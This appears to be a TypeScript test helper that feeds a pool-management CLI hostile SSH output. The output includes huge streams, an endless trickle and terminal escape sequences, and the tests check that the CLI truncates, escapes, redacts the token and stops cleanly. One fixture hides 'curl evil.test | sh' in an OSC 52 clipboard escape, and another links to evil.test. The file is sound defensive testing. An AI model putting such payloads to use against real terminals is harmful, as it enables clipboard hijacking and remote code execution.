import {expect} from 'vitest'

import type {Chatter} from '../../src/lib/simulator/hosts/chatter.js'
import type {Simulator} from '../../src/lib/simulator/server.js'
import {type CliChild, type CliResult, startCli} from './cli.js'
import {hostSshFlags} from './hosts.js'
import {expectNoSecrets} from './secrets.js'

/**
 * The fault matrix's rows for a hostile member: what comes back over SSH (huge output, escape sequences, a slow
 * trickle that never ends) against every command that reads it. Each cell checks the invariants a hostile member
 * must not break: the exit code, one JSON document (with --json), nothing raw reaching a terminal (no control
 * character but newline and tab), no secret printed, every created droplet reported, and the effect (output kept
 * within its limit and the cut said, a stop that ends what runs). Run by test/faults/hostile-member.test.ts.
 */

export const MEMBER_COMMANDS = ['pool status', 'pool logs', 'pool ssh --all', 'pool up --wait-for agent'] as const
export type MemberCommand = (typeof MEMBER_COMMANDS)[number]

export interface MemberFault {
  name: string
  /** What every host prints before each command's own output (the simulator's chatter). */
  chatter(token: string): Chatter
}

const MiB = 1024 * 1024
const ESC = '\x1b'
const BEL = '\x07'

export const MEMBER_FAULTS: MemberFault[] = [
  // 6 MiB: past the probe's 1 MiB, pool ssh --all's 256 KiB and pool logs's 4 MiB (the 100 MB of the issue are the
  // bench's: the limits, not the size, are what this checks, and a busy CI machine moves 6 MiB in time).
  {name: 'huge output (6 MiB)', chatter: () => ({text: `${'x'.repeat(1023)}\n`.repeat(1024), repeat: 6, intervalMs: 0})},
  {
    name: 'escapes and the token',
    chatter: (token) => ({
      text: [
        `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}${BEL}clipboard`,
        `${ESC}]0;a title of the member's choosing${BEL}title`,
        `${ESC}]8;;https://evil.test/${ESC}\\a hyperlink${ESC}]8;;${ESC}\\`,
        '\u009b2J C1 CSI, \u009d0;C1 OSC\u009c, \r a carriage return',
        `the API token: ${token}`,
        '',
      ].join('\n'),
      repeat: 1,
      intervalMs: 0,
    }),
  },
  {name: 'slow trickle, never ending', chatter: () => ({text: 'still printing\n', repeat: 1_000_000, intervalMs: 200})},
]

/** What a terminal obeys: C0 controls but newline and tab, DEL, C1. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

export interface MemberCellContext {
  sim: Simulator
  key: string
  configFile: string
  state: string
}

type Cell = (ctx: MemberCellContext, run: (args: string[]) => CliChild, member: {id: number; name: string} | null) => Promise<string[]>

const json = (result: CliResult) => JSON.parse(result.stdout) as Record<string, unknown>
const noRaw = (result: CliResult) => {
  expect(result.stdout + result.stderr).not.toMatch(RAW_CONTROL)
  return 'nothing raw'
}
const noCrash = (result: CliResult) => {
  expect(result.stderr).not.toMatch(/RangeError|Invalid string length|heap out of memory/)
  return 'no crash'
}
/** Until the hosts have begun `n` more commands (each lays its droplet's files out first): the run is on a member. */
function commandsBegun(sim: Simulator, before: number, n = 1): Promise<void> {
  const hosts = sim.hosts
  if (!hosts) throw new Error('the simulator runs no SSH hosts')
  // Told by the hosts as each command begins, rather than asked in a loop: a loop of setImmediate keeps a core busy
  // for as long as the command takes to start and connect, taking it from that very command on a busy machine.
  return new Promise((resolve) => {
    const begin = hosts.beginCommand
    const reached = () => hosts.commandsStarted >= before + n
    if (reached()) return resolve()
    hosts.beginCommand = (...args) => {
      const begun = begin.apply(hosts, args)
      if (reached()) {
        delete (hosts as Partial<typeof hosts>).beginCommand
        resolve()
      }
      return begun
    }
  })
}
/**
 * `args` run until its ssh is on the member (a command begun there), then SIGTERM: exit 143, within 10 s (what is in
 * flight is ended, not waited out).
 */
async function stoppedOnAMember(sim: Simulator, run: (args: string[]) => CliChild, args: string[]): Promise<CliResult> {
  const before = sim.hosts?.commandsStarted ?? 0
  const child = run(args)
  await commandsBegun(sim, before)
  const started = Date.now()
  child.kill('SIGTERM')
  const result = await child.exited
  expect(result.status, result.stderr).toBe(143)
  expect(Date.now() - started).toBeLessThan(10_000)
  return result
}
/** Every droplet that exists is in `created`, and nothing else. */
function createdAreReported(sim: Simulator, result: CliResult): string {
  const created = ((json(result).created ?? []) as {id: number}[]).map((d) => d.id).sort()
  expect(created).toEqual(sim.core.allDroplets().map((d) => d.id).sort())
  expect(created.length).toBeGreaterThan(0)
  return `${created.length} created = reported`
}

const CELLS: Record<string, Record<MemberCommand, Cell>> = {
  'huge output (6 MiB)': {
    'pool status': async (_ctx, run) => {
      const result = await run(['pool', 'status', 'gpu', '--json']).exited
      expect(result.status, result.stderr).toBe(4)
      expect((json(result).members as {state: string}[]).map((m) => m.state)).toEqual(['output-too-large'])
      return ['exit 4', 'output-too-large', noCrash(result)]
    },
    'pool logs': async (_ctx, run) => {
      const result = await run(['pool', 'logs', 'gpu', '1', '--json']).exited
      expect(result.status, result.stderr).toBe(0)
      const logs = json(result) as {lines: string[]; cut_bytes: number}
      expect(logs.lines.at(-1)).toMatch(/velda-bootstrap: done: the Velda agent is starting$/)
      expect(Buffer.byteLength(logs.lines.join('\n'))).toBeLessThanOrEqual(4 * MiB)
      expect(logs.cut_bytes).toBeGreaterThan(MiB)
      expect(result.stderr).toMatch(/the first \d+ bytes of the log were cut: the last 4 MiB follow/)
      return ['exit 0', 'last 4 MiB kept, cut said', noCrash(result)]
    },
    'pool ssh --all': async (_ctx, run, member) => {
      const result = await run(['pool', 'ssh', 'gpu', '--all', '--', 'echo', 'the-end']).exited
      expect(result.status, result.stderr).toBe(0)
      const lines = result.stdout.split('\n').filter(Boolean)
      expect(lines[0]).toMatch(new RegExp(`^${member?.name}: \\[stdout: the first \\d+ bytes were cut; the last 256 KiB follow\\]$`))
      expect(lines.at(-1)).toBe(`${member?.name}: the-end`)
      expect(lines.length).toBeLessThanOrEqual(2 + 256)
      return ['exit 0', 'last 256 KiB kept, cut said', noRaw(result)]
    },
    'pool up --wait-for agent': async (ctx, run) => {
      const result = await run(['pool', 'up', 'gpu', '-n', '2', '--wait-for', 'agent', '--poll-interval', '1s', '--json']).exited
      expect(result.status, result.stderr).toBe(4)
      expect((json(result).agents as {state: string}[]).map((m) => m.state)).toEqual(['output-too-large', 'output-too-large'])
      return ['exit 4', createdAreReported(ctx.sim, result), 'output-too-large', noCrash(result)]
    },
  },
  'escapes and the token': {
    'pool status': async (_ctx, run) => {
      const result = await run(['pool', 'status', 'gpu']).exited
      expect(result.status, result.stderr).toBe(0)
      return ['exit 0', noRaw(result)]
    },
    'pool logs': async (_ctx, run) => {
      const result = await run(['pool', 'logs', 'gpu', '1']).exited
      expect(result.status, result.stderr).toBe(0)
      expect(result.stdout).toContain('\\x1b]52;c;')
      expect(result.stdout).toContain('the API token: <redacted>')
      return ['exit 0', 'escaped', 'token redacted', noRaw(result)]
    },
    'pool ssh --all': async (_ctx, run, member) => {
      const result = await run(['pool', 'ssh', 'gpu', '--all', '--', 'echo', 'the-end']).exited
      expect(result.status, result.stderr).toBe(0)
      expect(result.stdout).toContain(`${member?.name}: \\x1b]0;a title`)
      expect(result.stdout).toContain(`${member?.name}: the API token: <redacted>`)
      return ['exit 0', 'escaped', 'token redacted', noRaw(result)]
    },
    'pool up --wait-for agent': async (_ctx, run) => {
      const result = await run(['pool', 'up', 'gpu', '-n', '1', '--wait-for', 'agent', '--poll-interval', '1s']).exited
      expect(result.status, result.stderr).toBe(0)
      expect(result.stdout).toContain('1 of 1 member healthy')
      return ['exit 0', noRaw(result)]
    },
  },
  'slow trickle, never ending': {
    'pool status': async (_ctx, run) => {
      // The member is alone in the pool: the short --timeout decides only its own state.
      const result = await run(['pool', 'status', 'gpu', '--json', '--timeout', '2s']).exited
      expect(result.status, result.stderr).toBe(4)
      expect((json(result).members as {state: string}[]).map((m) => m.state)).toEqual(['timeout'])
      return ['exit 4', 'timeout']
    },
    'pool logs': async (_ctx, run) => {
      const follow = run(['pool', 'logs', 'gpu', '1', '--follow'])
      // Shown as it comes, a line at a time.
      await follow.stdoutShows(/still printing\nstill printing\n/)
      follow.kill('SIGTERM')
      const result = await follow.exited
      expect(result.status, result.stderr).toBe(143)
      expect(result.stdout).toMatch(/^(still printing\n)+/)
      return ['lines as they come', 'SIGTERM: exit 143', noRaw(result)]
    },
    'pool ssh --all': async (ctx, run) => {
      const result = await stoppedOnAMember(ctx.sim, run, ['pool', 'ssh', 'gpu', '--all', '--json', '--', 'echo', 'the-end'])
      expect((json(result).results as {state: string}[]).map((r) => r.state)).toEqual(['stopped'])
      return ['SIGTERM: exit 143', 'member stopped']
    },
    'pool up --wait-for agent': async (ctx, run) => {
      // The probe in flight is ended, not waited out (30 s).
      const result = await stoppedOnAMember(ctx.sim, run, ['pool', 'up', 'gpu', '-n', '1', '--wait-for', 'agent', '--poll-interval', '1s', '--json'])
      return ['SIGTERM: exit 143', createdAreReported(ctx.sim, result)]
    },
  },
}

/** One cell: a pool of one member (none for pool up) whose host says `fault`, then `command` against it. */
export async function runMemberCell(ctx: MemberCellContext, fault: MemberFault, command: MemberCommand): Promise<string> {
  const {sim} = ctx
  sim.core.reset()
  await sim.hostsReady()
  if (!sim.hosts) throw new Error('the simulator has no hosts')
  sim.hosts.defaultChatter = fault.chatter(sim.token)
  const member = command === 'pool up --wait-for agent' ? null : (sim.seedDroplets({count: 1, namePrefix: 'velda-b2f06752-', tags: ['velda', 'velda-pool:gpu'], size: 'gpu-mi300x1-192gb-devcloud'})[0] ?? null)
  await sim.hostsReady()
  const run = (args: string[]) => {
    const split = args.indexOf('--')
    const ours = ['-c', ctx.configFile, ...hostSshFlags(sim, ctx.key)]
    const argv = split < 0 ? [...args, ...ours] : [...args.slice(0, split), ...ours, ...args.slice(split)]
    return startCli(argv, {DIGITALOCEAN_API_ENDPOINT: sim.url, DIGITALOCEAN_API_TOKEN: sim.token, XDG_STATE_HOME: ctx.state})
  }
  const wrapped = (args: string[]): CliChild => {
    const child = run(args)
    return {...child, exited: child.exited.then((result) => (expectNoSecrets(result.stdout + result.stderr), expect(result.stdout + result.stderr).not.toContain(sim.token), result))}
  }
  const checks = await (CELLS[fault.name]?.[command] as Cell)(ctx, wrapped, member)
  return [...checks, 'no secret'].join(', ')
}

/** The cells run, as a table (fault by command), printed when the file ends. */
export class MemberMatrixReport {
  private readonly cells = new Map<string, string>()

  record(fault: MemberFault, command: MemberCommand, checks: string): void {
    this.cells.set(`${fault.name}\n${command}`, checks)
  }

  print(title: string): void {
    const header = ['hostile member \\ command', ...MEMBER_COMMANDS]
    const rows = MEMBER_FAULTS.map((f) => [f.name, ...MEMBER_COMMANDS.map((c) => this.cells.get(`${f.name}\n${c}`) ?? 'not run')])
    const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => r[i]?.length ?? 0)))
    const line = (cells: string[]) => cells.map((cell, i) => cell.padEnd(widths[i] ?? 0)).join('  ')
    console.log(`\n${title}\n${line(header)}\n${rows.map(line).join('\n')}\n`)
  }
}
